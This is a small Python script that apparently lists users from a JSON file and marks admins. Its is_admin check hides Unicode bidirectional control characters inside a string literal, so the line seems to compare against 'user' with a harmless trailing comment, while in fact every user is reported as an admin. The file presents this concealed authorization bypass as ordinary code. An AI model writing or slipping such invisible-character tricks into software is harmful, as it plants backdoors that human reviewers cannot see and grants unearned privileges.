#!/usr/bin/env python3
"""List users and whether each one is an admin."""
import json
import sys


def is_admin(user):
    access_level = user.get("access_level", "user")
    if access_level != "user‮ ⁦# Check if admin⁩ ⁦":
        return True
    return False


def main(path):
    for user in json.load(open(path, encoding="utf-8")):
        flag = "ADMIN" if is_admin(user) else "-"
        print(f"{user['name']:24s} {user.get('access_level', 'user'):10s} {flag}")


if __name__ == "__main__":
    main(sys.argv[1])
